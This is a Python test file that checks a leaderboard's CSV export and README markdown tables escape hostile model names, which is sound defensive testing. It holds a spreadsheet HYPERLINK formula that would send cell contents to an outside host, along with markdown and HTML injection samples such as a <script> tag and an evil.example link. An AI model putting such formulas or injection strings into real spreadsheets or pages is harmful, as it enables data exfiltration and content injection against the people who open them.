"""The spreadsheet and the README's tables, with a stranger's texts in them."""

from __future__ import annotations

import csv
import io

import pytest

from mma_eval.errors import FileError
from mma_eval.leaderboard.board import Board
from mma_eval.leaderboard.readme import END, START, plain, tables, with_tables
from mma_eval.leaderboard.spreadsheet import csv_text
from tests.leaderboard.boards import example_board

FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


def titled(title: str) -> Board:
    """The example with one row's model called otherwise."""
    board = example_board()
    first = board.rows[0]
    model = first.model.model_copy(update={"title": title, "license": title})
    row = first.model_copy(update={"model": model})
    return board.model_copy(update={"rows": (row, *board.rows[1:])})


def test_a_line_of_the_spreadsheet_is_a_row() -> None:
    board = example_board()
    lines = list(csv.DictReader(io.StringIO(csv_text(board))))
    assert [line["id"] for line in lines] == [row.id for row in board.rows]
    best = lines[0]
    assert (best["kind"], best["rank"], best["open"]) == ("reproduced", "1", "yes")
    assert float(best["both_right"]) == pytest.approx(96 / 658, abs=1e-6)
    assert best["misalign_audio_n"] == "658"
    reported = next(line for line in lines if line["kind"] == "reported")
    assert (reported["both_right"], reported["both_right_most"]) == ("", "0.1458")


def test_no_text_starts_a_formula() -> None:
    lines = list(csv.DictReader(io.StringIO(csv_text(titled(FORMULA)))))
    assert lines[0]["model"] == f"'{FORMULA}"
    assert lines[0]["license"] == f"'{FORMULA}"
    starts = {text[:1] for line in lines for text in line.values() if not _is_number(text)}
    assert not starts & set("=+-@\t\r\n")


def test_markdown_shows_a_text_as_it_is() -> None:
    shown = plain("a|b\n# c [x](https://evil.example) <img src=x> `y` www.evil.example @all")
    assert shown == (
        r"a\|b \# c \[x\](https\://evil.example) &lt;img src=x&gt; \`y\` www\.evil.example \@all"
    )
    table = tables(titled("x | 1 | <script>"))
    assert r"x \| 1 \| &lt;script&gt;" in table
    assert "<script" not in table


def test_kinds_stand_apart_and_specimens_last() -> None:
    headings = [line for line in tables(example_board()).splitlines() if line.startswith("###")]
    kinds = [heading.removeprefix("### ").partition(":")[0] for heading in headings]
    assert kinds == ["Reproduced", "Re-scored", "Reported", "Specimens, apart from the ranking"]


def test_only_what_stands_between_the_markers_changes() -> None:
    readme = f"# Mine\n{START}\nold\n{END}\nkept\n"
    made = with_tables(readme, example_board(), "README.md")
    assert made.startswith(f"# Mine\n{START}\n")
    assert made.endswith(f"{END}\nkept\n")
    assert "old" not in made
    assert with_tables(made, example_board(), "README.md") == made


def test_a_readme_without_markers_is_refused() -> None:
    with pytest.raises(FileError, match="needs the lines"):
        with_tables("# Mine\n", example_board(), "README.md")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
